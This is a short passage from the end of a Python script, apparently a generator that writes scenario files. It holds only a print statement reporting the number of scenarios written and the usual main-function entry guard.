    print(f"{len(SCENARIOS)} scenarios written to {HERE}")


if __name__ == "__main__":
    main()
